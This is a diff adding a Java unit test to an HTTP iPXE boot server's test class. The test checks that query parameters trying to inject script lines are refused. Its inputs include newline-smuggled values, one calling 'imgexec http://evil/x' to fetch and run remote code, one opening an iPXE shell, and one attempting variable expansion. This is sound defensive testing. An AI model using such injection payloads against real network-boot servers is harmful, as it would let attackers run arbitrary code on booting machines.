@@ -110,4 +110,22 @@ class HttpBootServerTest {
         body = new String(get("/boot.ipxe?arch=efi64", null).body(), StandardCharsets.UTF_8);
         assertEquals("#!ipxe\nkernel " + base + "/kernel mac=52:54:00:aa:bb:cc arch=efi64 ip=127.0.0.1\n", body);
     }
+
+    @Test
+    void overridesThatCouldInjectScriptLinesAreRefused() throws Exception {
+        clients.record(new BootClients.Client("52:54:00:aa:bb:cc", "127.0.0.1", "bios"));
+        HttpResponse<byte[]> r = get("/boot.ipxe?mac=%0aimgexec%20http://evil/x", null);
+        assertEquals(400, r.statusCode());
+        assertEquals("400 Bad Request: mac must look like 52:54:00:12:34:56\n",
+                new String(r.body(), StandardCharsets.UTF_8));
+        r = get("/boot.ipxe?arch=efi64%0d%0ashell", null);
+        assertEquals(400, r.statusCode());
+        assertEquals("400 Bad Request: arch must be 1 to 32 of A-Z a-z 0-9 - _\n",
+                new String(r.body(), StandardCharsets.UTF_8));
+        r = get("/boot.ipxe?mac=%24%7bnet0/mac%7d", null); // ${net0/mac}: no iPXE expansion either
+        assertEquals(400, r.statusCode());
+        // a MAC in another accepted spelling is rendered in the canonical one
+        String body = new String(get("/boot.ipxe?mac=52-54-00-AA-BB-DD", null).body(), StandardCharsets.UTF_8);
+        assertEquals("#!ipxe\nkernel " + base + "/kernel mac=52:54:00:aa:bb:dd arch=bios ip=127.0.0.1\n", body);
+    }
 }
